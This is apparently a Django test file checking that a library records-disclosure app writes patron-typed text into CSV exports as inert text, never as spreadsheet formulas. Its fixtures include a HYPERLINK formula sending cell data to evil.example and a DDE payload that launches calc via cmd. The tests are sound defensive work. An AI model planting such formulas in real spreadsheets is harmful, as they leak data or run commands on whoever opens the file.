"""Every CSV the disclosure app hands out is written by ``core.files.csv_writer``: text that a
patron or a member of the public typed (a catalog search, a room-booking contact name)
comes out as text, never as a spreadsheet formula."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile

from django.utils import timezone

from bookwarden.core.models import Library
from bookwarden.disclosures.models import OpenRecordsRequest
from bookwarden.disclosures.tests.factories import cresco_public_records_policy
from bookwarden.disclosures.transparency import as_csv, build
from bookwarden.patrons.models import CatalogSearch, RoomBooking

from .helpers import days, nm_request, released

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Open the catalog")'


def _rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


def test_a_search_typed_as_a_formula_is_text_in_the_packet(
    client_as, people, patrons, media
) -> None:
    reader = patrons["reader"]
    CatalogSearch._unguarded.create(
        library=reader.library, patron=reader, terms=FORMULA, searched_at=timezone.now() - days(1)
    )
    req = nm_request(
        people,
        [reader],
        instrument="court_order",
        finding="public_safety",
        record_types=["searches"],
        date_from=(timezone.now() - days(10)).date(),
        date_to=timezone.localdate(),
    )
    req = released(people, req)
    content = client_as("director").get(f"/disclosures/{req.pk}/packet/").content
    rows = _rows(zipfile.ZipFile(io.BytesIO(content)).read("searches.csv"))
    terms = [row[rows[0].index("Search terms")] for row in rows[1:]]
    assert "'" + FORMULA in terms
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert [row[0] for row in rows[1:]] == [str(reader.pk)] * len(rows[1:])  # ids stay numbers


def test_room_booking_contacts_starting_with_plus_or_at_are_text(
    client_as, people, patrons, media
) -> None:
    cresco_public_records_policy(people)
    cresco = Library.objects.get(slug="cresco")
    start = timezone.now() + datetime.timedelta(days=1)
    for name, phone in (("+Jo Mills", "-563-555-0101"), ("@SUM(1+1)*cmd|' /C calc'!A0", "")):
        RoomBooking._unguarded.create(
            library=cresco,
            room="Meeting room B",
            starts_at=start,
            ends_at=start + datetime.timedelta(hours=1),
            contact_name=name,
            contact_phone=phone,
        )
    response = client_as("outsider_staff").post(
        "/disclosures/open-records/new/",
        {
            "library": "cresco",
            "requester_name": "Dana Reporter",
            "requester_contact": "dana@example.org",
            "record_type": "room_bookings",
            "date_from": str(timezone.localdate()),
            "date_to": str(timezone.localdate() + datetime.timedelta(days=7)),
            "given": "The room bookings of the week, as CSV.",
        },
    )
    assert response.status_code == 302
    rows = _rows(OpenRecordsRequest.objects.get().file.read())
    names = {row[3] for row in rows[1:]}
    assert {"'+Jo Mills", "'@SUM(1+1)*cmd|' /C calc'!A0"} <= names
    assert "'-563-555-0101" in {row[4] for row in rows[1:]}
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_transparency_csv_keeps_its_counts_as_numbers(people) -> None:
    report = build(Library.objects.get(slug="new-madrid"), timezone.localdate().year)
    rows = list(csv.reader(io.StringIO(as_csv(report))))
    assert rows[-1][-1] == "0" and rows[-1][0] == str(timezone.localdate().year)
